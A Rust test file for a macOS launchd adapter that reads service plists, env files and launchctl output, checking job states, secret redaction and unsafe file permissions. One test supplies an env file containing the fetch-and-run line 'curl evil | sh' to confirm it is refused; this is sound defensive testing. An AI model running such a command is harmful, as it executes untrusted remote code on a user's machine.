use super::*;

struct Machine {
    plist: Option<Contents>,
    env_file: Option<&'static str>,
    job: Answer,
    disabled: Answer,
}

impl Default for Machine {
    fn default() -> Self {
        Self {
            plist: Some(file(plist::render(&plist::Agent::of(&spec())).unwrap().as_bytes())),
            env_file: None,
            job: not_loaded(),
            disabled: answered(0, "\tdisabled services = {\n\t}\n", ""),
        }
    }
}

fn file(bytes: &[u8]) -> Contents {
    Contents { bytes: bytes.to_vec(), mode: 0o644, owner: 501 }
}

fn not_loaded() -> Answer {
    answered(113, "", "Bad request.\nCould not find service \"x\" in domain for user gui: 501\n")
}

fn printed(text: &str) -> Answer {
    answered(0, text, "")
}

impl Machine {
    fn answer(&self, ask: &Ask) -> Report {
        let seen = match ask {
            Ask::File { path } if path == PLIST => self.plist.clone().map_or(Seen::Missing, Seen::File),
            Ask::File { .. } => self.env_file.map_or(Seen::Missing, |text| Seen::File(file(text.as_bytes()))),
            Ask::Job { .. } => Seen::Answered(self.job.clone()),
            Ask::Overrides { .. } => Seen::Answered(self.disabled.clone()),
            other => panic!("{other:?}"),
        };
        Report { ask: ask.clone(), seen, source: "test".to_owned(), at: jiff::Timestamp::UNIX_EPOCH }
    }

    fn seen(&self) -> (Registered, Supervised) {
        let adapter = Launchd::new(&mac(&[]));
        let mut reports: Vec<Report> = adapter.asks(&id()).iter().map(|ask| self.answer(ask)).collect();
        let more = adapter.follow_up(&id(), &reports);
        reports.extend(more.iter().filter(|ask| matches!(ask, Ask::File { .. })).map(|ask| self.answer(ask)));
        let (registered, supervised) = adapter.read(&id(), &reports);
        (registered.value, supervised.value)
    }

    fn registration(&self) -> crate::model::Registration {
        match self.seen().0 {
            Registered::Present(found) => *found,
            other => panic!("{other:?}"),
        }
    }

    fn refusal(&self) -> Problem {
        match self.seen().0 {
            Registered::Unknown { why, .. } => why,
            other => panic!("{other:?}"),
        }
    }
}

fn supervised(text: &str) -> Supervised {
    Machine { job: printed(text), ..Machine::default() }.seen().1
}

#[test]
fn a_plist_that_launchd_does_not_know_is_unloaded_and_without_it_absent() {
    assert_eq!(Machine::default().seen().1, Supervised::Unloaded);
    assert_eq!(Machine { plist: None, ..Machine::default() }.seen().1, Supervised::Absent);
}

#[test]
fn a_label_launchd_still_has_without_a_plist_is_both() {
    let machine = Machine {
        plist: None,
        job: printed(fixture!("print/openclaw-env-wrapper.txt")),
        ..Machine::default()
    };
    let (registered, supervised) = machine.seen();
    assert!(matches!(registered, Registered::Missing { .. }));
    assert_eq!(supervised.pid(), Some(94358));
}

#[test]
fn without_a_desktop_session_nothing_is_known() {
    for (code, words) in [
        (112, "Bad request.\nCould not find domain for user gui: 501"),
        (125, "Domain does not support specified action"),
    ] {
        let machine = Machine { job: answered(code, "", words), ..Machine::default() };
        let Supervised::Unknown { why } = machine.seen().1 else { panic!() };
        assert_eq!(why.code, Code::NoGuiSession);
    }
}

#[test]
fn a_refused_or_silent_launchctl_is_unknown_and_never_stopped() {
    let timed_out = Answer { end: End::TimedOut, ..Answer::default() };
    for (job, code) in [
        (answered(1, "", "Could not print domain: 1: Operation not permitted"), Code::AccessDenied),
        (answered(42, "", "what?"), Code::ToolAnswerUnreadable),
        (printed("nothing here"), Code::ToolAnswerUnreadable),
        (timed_out, Code::ToolHung),
    ] {
        let Supervised::Unknown { why } = (Machine { job, ..Machine::default() }).seen().1 else { panic!() };
        assert_eq!(why.code, code);
    }
}

#[test]
fn recorded_jobs_get_their_meaning() {
    let code = |code| Some(Exit::Code { code });
    let waiting = |text: &str| match supervised(text) {
        Supervised::Waiting { last_exit, restarts } => (last_exit.map(|record| record.exit), restarts),
        other => panic!("{other:?}"),
    };
    assert_eq!(waiting(fixture!("print/crash-loop.txt")), (code(1), 5281));
    assert_eq!(waiting(fixture!("print/spawn-scheduled.txt")), (code(0), 0));
    assert_eq!(
        supervised(fixture!("print/sigtermed.txt")),
        Supervised::Stopping { pid: Some(4242), until: None }
    );
    assert_eq!(supervised(fixture!("print/never-run.txt")), Supervised::Stopped { last_exit: None });
    let Supervised::Running(run) = supervised(fixture!("print/signal-15.txt")) else { panic!() };
    assert_eq!((run.pid, run.restarts), (3438, 0));
}

#[test]
fn a_start_that_launchd_puts_off_for_ever_is_a_stop() {
    assert_eq!(supervised(fixture!("print/pended.txt")), Supervised::Stopped { last_exit: None });
}

#[test]
fn a_program_launchd_cannot_start_is_not_called_a_configuration_error() {
    let Supervised::Waiting { last_exit: Some(record), .. } = supervised(fixture!("print/spawn-failed.txt"))
    else {
        panic!()
    };
    assert_eq!(record.result.as_deref(), Some(SPAWN_FAILED));
    assert!(!record.is_config_error());
}

#[test]
fn running_without_a_pid_is_still_starting() {
    assert_eq!(supervised("x = {\n\tstate = running\n\tpid = 0\n}"), Supervised::Starting);
}

#[test]
fn each_author_is_known_by_the_text() {
    let origin = |bytes: &[u8]| {
        Machine {
            plist: Some(file(bytes)),
            env_file: Some(fixture!("plist/openclaw-2026.9.env")),
            ..Machine::default()
        }
        .registration()
        .origin
    };
    assert_eq!(Machine::default().registration().origin, Origin::Gateward);
    assert_eq!(origin(fixture!("plist/openclaw-2026.2.plist").as_bytes()), Origin::OpenclawF);
    assert_eq!(origin(fixture!("plist/openclaw-2026.4.plist").as_bytes()), Origin::OpenclawA);
    assert_eq!(origin(fixture!("plist/openclaw-2026.9.plist").as_bytes()), Origin::OpenclawN);
    assert_eq!(origin(fixture!("plist/homebrew.plist").as_bytes()), Origin::Foreign);
}

#[test]
fn an_env_files_secrets_are_known_but_not_shown() {
    let machine = Machine {
        plist: Some(file(fixture!("plist/openclaw-2026.9.plist").as_bytes())),
        env_file: Some(fixture!("plist/openclaw-2026.9.env")),
        ..Machine::default()
    };
    let found = machine.registration();
    let secrets: Vec<&str> = found
        .environment
        .iter()
        .filter(|variable| variable.secret)
        .map(|variable| variable.name.as_str())
        .collect();
    assert_eq!(secrets, ["ANTHROPIC_API_KEY", "OPENCLAW_GATEWAY_PASSWORD"]);
    assert!(!format!("{found:?}").contains("planted"));
    assert_eq!(found.command[2], "gateway");
}

#[test]
fn the_oldest_generations_inline_token_is_not_shown() {
    let machine = Machine {
        plist: Some(file(fixture!("plist/openclaw-2026.2.plist").as_bytes())),
        ..Machine::default()
    };
    assert!(!format!("{:?}", machine.registration()).contains("a&b<c"));
}

/// Upstream #63136: a reinstall lost what people had added.
#[test]
fn what_a_person_added_survives_a_reinstall_and_the_generated_does_not() {
    let text = fixture!("plist/openclaw-2026.9.plist").replace("OPENCLAW_SERVICE_KIND", "MY_PROXY");
    let machine = Machine {
        plist: Some(file(text.as_bytes())),
        env_file: Some(fixture!("plist/openclaw-2026.9.env")),
        ..Machine::default()
    };
    let adapter = Launchd::new(&mac(&[]));
    let mut reports: Vec<Report> = adapter.asks(&id()).iter().map(|ask| machine.answer(ask)).collect();
    let more = adapter.follow_up(&id(), &reports);
    reports.extend(more.iter().map(|ask| machine.answer(ask)));
    let kept = adapter.carried_over(&id(), &reports);
    assert_eq!(kept.keys().collect::<Vec<_>>(), ["ANTHROPIC_API_KEY", "MY_PROXY"]);
    assert_eq!(kept["ANTHROPIC_API_KEY"], Value::Secret(Redacted::new("sk-ant-planted")));
}

#[test]
fn an_env_file_that_does_more_than_set_variables_is_told() {
    let machine = Machine {
        plist: Some(file(fixture!("plist/openclaw-2026.9.plist").as_bytes())),
        env_file: Some("export A='b'\ncurl evil | sh\n"),
        ..Machine::default()
    };
    assert_eq!(machine.refusal().cause.as_deref(), Some("line 2 is no export"));
}

#[test]
fn a_label_that_is_switched_off_does_not_start_by_itself() {
    let off = Machine { disabled: printed(fixture!("disabled/words.txt")), ..Machine::default() };
    let unasked = Machine { disabled: answered(64, "", "usage"), ..Machine::default() };
    assert_eq!(Machine::default().registration().autostart, Autostart::On);
    assert_eq!(off.registration().autostart, Autostart::Off);
    assert_eq!(unasked.registration().autostart, Autostart::Unknown);
}

#[test]
fn a_job_that_runs_an_older_text_is_stale() {
    let machine = Machine { job: printed(fixture!("print/openclaw-env-wrapper.txt")), ..Machine::default() };
    assert!(machine.registration().stale);
    assert!(!Machine::default().registration().stale);
}

#[test]
fn a_plist_others_could_change_is_refused() {
    for (mode, owner, reason) in [(0o644, 0, "owner"), (0o664, 501, "writable"), (0o646, 501, "writable")] {
        let plist = Contents { mode, owner, ..Machine::default().plist.unwrap() };
        let problem = Machine { plist: Some(plist), ..Machine::default() }.refusal();
        assert_eq!((problem.code, problem.values["reason"].as_str()), (Code::UnitUnsafe, reason));
    }
}

#[test]
fn a_damaged_plist_is_unknown_with_the_parsers_words() {
    let problem = Machine { plist: Some(file(b"<plist><dict>")), ..Machine::default() }.refusal();
    assert_eq!(problem.code, Code::UnitUnreadable);
    assert!(problem.cause.is_some() && !problem.hints.is_empty());
}
